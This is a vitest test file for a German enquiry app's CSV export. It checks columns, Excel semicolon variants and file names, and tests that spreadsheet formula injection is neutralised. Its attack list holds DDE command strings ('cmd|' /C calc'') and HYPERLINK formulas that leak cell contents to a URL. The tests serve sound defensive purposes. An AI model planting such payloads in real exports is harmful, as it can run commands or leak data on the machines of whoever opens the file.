import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { ConsultationRequest, MwoEntry } from '../../app/features/enquiries/enquiry.ts'
import { type CsvVariant, csvFileName, toCsv } from '../../app/features/enquiries/export/csv.ts'

test('harmless data is the file of the specification, byte for byte', () => {
  const text = toCsv(
    'mwo',
    [
      entry({ message: 'Guten Tag', location: { city: 'Musterhafen', country: 'Deutschland' } }),
      entry({ first_name: 'Änne', message: 'Er sagte „ja“, und "nein"', phone: null, status: 'completed' }),
      entry({
        is_anonymous: true,
        in_patient_file: true,
        first_name: 'Anonym',
        last_name: 'Anonym',
        message: null,
        status: '' as 'new',
      }),
      entry({ message: '- Punkt 1\n- Punkt 2; -10 Grad', created_at: '2026-11-20T23:30:00Z' }),
    ],
    'standard',
  )

  expect(text).toBe(
    [
      '\uFEFFDatum,Vorname,Nachname,E-Mail,Telefon,Nachricht,Anonym,Status,Stadt,Land',
      '5.11.2026,Max,Mustermann,max.mustermann@example.com,040 66969-123,Guten Tag,Nein,new,Musterhafen,Deutschland',
      '5.11.2026,Änne,Mustermann,max.mustermann@example.com,,"Er sagte „ja“, und ""nein""",Nein,completed,,',
      '5.11.2026,Anonym,Anonym,max.mustermann@example.com,040 66969-123,,Ja,new,,',
      '21.11.2026,Max,Mustermann,max.mustermann@example.com,040 66969-123,"\'- Punkt 1\n- Punkt 2; -10 Grad",Nein,new,,',
    ].join('\n'),
  )
})

test('the variant for a German Excel separates by semicolons', () => {
  const text = toCsv('mwo', [entry({ message: 'eins; zwei' })], 'excel')

  expect(text.split('\n')[0]).toBe(
    '\uFEFFDatum;Vorname;Nachname;E-Mail;Telefon;Nachricht;Anonym;Status;Stadt;Land;Uhrzeit;Vorgangsnummer;Notizen;Patientenakte',
  )
  expect(rows(text, ';')[0]).toMatchObject({ Nachricht: 'eins; zwei', Telefon: '040 66969-123' })
})

test('the variant for a German Excel says status and theme in words, and has time, reference, notes and the patient file', () => {
  const entries = [
    entry({
      status: 'completed',
      admin_notes: 'Ruft an; am Montag',
      in_patient_file: true,
      created_at: '2026-11-20T23:30:00Z',
    }),
  ]
  expect(rows(toCsv('mwo', entries, 'excel'), ';')[0]).toMatchObject({
    Status: 'Abgeschlossen',
    Uhrzeit: '00:30',
    Vorgangsnummer: entries[0]?.id.slice(0, 8).toUpperCase(),
    Notizen: 'Ruft an; am Montag',
    Patientenakte: 'Ja',
  })
  const request: ConsultationRequest = {
    ...entry(),
    kind: 'consultation',
    phone: '040 1',
    consultation_type: 'erstberatung',
    preferred_time: 'früh',
  }
  expect(rows(toCsv('consultation', [request], 'excel'), ';')[0]).toMatchObject({
    Thema: 'Erstberatung',
    Status: 'Neu',
  })
})

test('consultation requests have columns of their own', () => {
  const request: ConsultationRequest = {
    ...entry(),
    kind: 'consultation',
    phone: '040 1',
    consultation_type: 'mwo',
    preferred_time: 'früh',
  }

  expect(rows(toCsv('consultation', [request], 'standard'), ',')[0]).toMatchObject({
    Thema: 'mwo',
    Wunschzeit: 'früh',
    Status: 'new',
  })
})

test('files are named after their content and the day', () => {
  expect(csvFileName('mwo', '2026-11-21')).toBe('mwo-anfragen-2026-11-21.csv')
  expect(csvFileName('consultation', '2026-11-21')).toBe('beratungsanfragen-2026-11-21.csv')
})

const attacks = [
  '=1+1',
  '=HYPERLINK("http://example.com?x="&A1,"Klick")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  '＝1+1',
  '＠SUM(A1)',
  'harmlos;=HYPERLINK("http://example.com")',
  'harmlos,=HYPERLINK("http://example.com")',
  "harmlos\n=cmd|' /C calc'!A0",
  "harmlos\r\n+cmd|' /C calc'!A0",
  'harmlos\t@SUM(1)',
  '";=HYPERLINK("http://example.com")',
  'harmlos;=Tabelle1!A1',
  "harmlos,+'Tabelle 1'!A1",
]

test.each(attacks)('%j is text in every spreadsheet', (attack) => {
  for (const variant of ['standard', 'excel'] as CsvVariant[]) {
    const text = toCsv(
      'mwo',
      [entry({ message: attack, first_name: attack, last_name: attack, location: { city: attack } })],
      variant,
    )

    const separator = variant === 'excel' ? ';' : ','
    for (const row of rows(text, separator)) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/u)
    }
    // Also where the program takes another character for the separator, and quotes for text.
    for (const wrong of [',', ';', '\t']) {
      const cells = text.split(/\r\n|\n|\r/).flatMap((line) => line.split(wrong))
      for (const cell of cells) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠].*[(|!]/u)
    }
  }
})

test.each(['+49 151 23456789', '+49 (0)4131 / 123-45', '-10', '+1.5', '- 2 [3]'])(
  '%s is exported unchanged',
  (text) => {
    expect(rows(toCsv('mwo', [entry({ phone: text, message: text })], 'standard'), ',')[0]).toMatchObject({
      Telefon: text,
      Nachricht: text,
    })
  },
)

const sign = fc.constantFrom('+', '-')

test('a sign is kept in front of digits, spaces, brackets, slashes, hyphens and dots', () => {
  const harmless = fc.string({ unit: fc.constantFrom(...'0123456789 ()[]/.-') })
  fc.assert(
    fc.property(sign, harmless, (first, rest) => {
      const [row] = rows(toCsv('mwo', [entry({ message: first + rest })], 'standard'), ',')
      expect(row?.Nachricht).toBe(first + rest)
    }),
  )
})

test('a sign in front of anything else is defused', () => {
  const anything = fc
    .string({ unit: fc.constantFrom(...'09 ()-.aZß€=+@|!;,"\'\t\n') })
    .filter((text) => /[^\d ()[\]/.-]/.test(text))
  fc.assert(
    fc.property(sign, anything, (first, rest) => {
      const text = toCsv('mwo', [entry({ message: first + rest, status: 'new' })], 'standard')
      expect(text).toContain(`'${first}`)
    }),
  )
})

function rows(text: string, delimiter: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true, delimiter })
}

function entry(changes: Partial<MwoEntry> = {}): MwoEntry {
  return {
    kind: 'mwo',
    id: '00000000-0000-4000-8000-000000000000',
    created_at: '2026-11-05T12:00:00Z',
    promise_from: '2026-11-05T12:00:00Z',
    updated_at: '2026-11-05T12:00:00Z',
    first_name: 'Max',
    last_name: 'Mustermann',
    email: 'max.mustermann@example.com',
    phone: '040 66969-123',
    message: 'Guten Tag',
    consent_version: null,
    status: 'new',
    admin_notes: null,
    in_patient_file: false,
    answered_at: null,
    comes_back_on: null,
    is_anonymous: false,
    suspicion: null,
    gdpr_consent: true,
    file_url: null,
    file_name: null,
    file_type: null,
    file_size: null,
    location: null,
    ...changes,
  }
}
